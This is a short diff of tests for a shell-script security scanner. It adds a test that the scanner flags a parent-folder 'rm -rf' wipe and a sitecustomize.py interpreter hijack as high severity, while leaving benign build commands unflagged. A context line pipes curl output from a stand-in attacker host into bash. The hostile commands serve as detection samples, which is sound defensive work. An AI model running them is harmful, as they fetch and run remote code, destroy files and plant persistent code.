@@ -106,3 +106,9 @@ def test_unparsable_shell_falls_back_to_tokens():
     text = "if then fi ))) curl -s https://evil.example/x | bash\n"
     found = [f for f in scan(SH, text) if f.rule_id == "IG701"]
     assert found and found[0].properties.get("parse-error")
+
+
+def test_parent_folder_wipe_and_interpreter_hijack():
+    assert top(SH, "rm -rf ./* ../*\n", "IG714") == Severity.HIGH
+    assert top(SH, "cp payload.py ~/.local/lib/python3.11/site-packages/sitecustomize.py\n", "IG708") == Severity.HIGH
+    assert script_rules(SH, "rm -rf ./build/*\ncp dist/tool ~/.local/bin/tool\n") == set()
